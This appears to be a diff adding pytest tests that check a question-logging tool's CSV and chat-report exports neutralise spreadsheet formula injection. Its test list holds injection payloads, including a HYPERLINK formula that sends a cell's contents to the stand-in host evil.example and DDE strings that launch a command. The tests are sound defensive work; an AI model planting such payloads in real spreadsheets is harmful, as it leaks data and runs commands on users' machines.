@@ -291,3 +291,66 @@ def test_cli_report_and_forget(tmp_path: Path, capsys: pytest.CaptureFixture[str
     assert not (tmp_path / "missing.sqlite3").exists()
     with pytest.raises(SystemExit):
         main(["report", "--since", "soon"])
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/x?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=2+2",
+    "\r=3+3",
+    "  =1+1 with blanks first",
+    "＝1+1 full width",
+]
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of a CSV that a spreadsheet would read as a formula."""
+    starts = set("=+-@＝＋－＠")
+    return [cell for r in csv.reader(io.StringIO(text)) for cell in r if cell[:1] in starts | {"\t", "\r"} or cell.lstrip()[:1] in starts]
+
+
+def test_csv_cells_never_start_a_formula() -> None:
+    rows = [row(t, suggestions=("salary",)) for t in INJECTIONS] + [row("how much does a nurse earn")]
+    groups = group_questions(rows, similarity=100, key=lambda t: t)
+    text = to_csv(Report(0, 1, 0.65, 100, len(rows), len(rows), tuple(groups), (), ()))
+    assert formula_cells(text) == []
+    names = [r["name"] for r in csv.DictReader(io.StringIO(text)) if r["section"] == "group"]
+    # each payload is still there, behind the quote; a harmless question is unchanged
+    assert sorted(n[1:] for n in names if n.startswith("'")) == sorted(" ".join(t.split()) for t in INJECTIONS)
+    assert "how much does a nurse earn" in names
+
+
+async def injected_store(db: Path, now: float) -> Store:
+    store = await Store(db, "salt", flush_interval=0.05).open()
+    for i, text in enumerate(INJECTIONS):
+        await store.question(QuestionEvent(now - 60 + i, 10 + i, "private", text, normalise(text), None, 0.1, True, ()))
+    return store
+
+
+async def test_the_report_document_carries_no_formula(tmp_path: Path, engine: Engine) -> None:
+    now = time.time()
+    store = await injected_store(tmp_path / "log.sqlite3", now)
+    try:
+        _, document = await report_for_chat(store, engine.kb, since=86400, now=now)
+    finally:
+        await store.close()
+    assert document is not None
+    text = document.content.decode("utf-8")
+    assert "HYPERLINK" in text
+    assert formula_cells(text) == []
+
+
+def test_cli_csv_carries_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    db = tmp_path / "log.sqlite3"
+
+    async def fill() -> None:
+        await (await injected_store(db, time.time())).close()
+
+    asyncio.run(fill())
+    capsys.readouterr()
+    assert main(["report", "--db", str(db), "--format", "csv", "--since", "1d"]) == 0
+    out = capsys.readouterr().out
+    assert "HYPERLINK" in out
+    assert formula_cells(out) == []
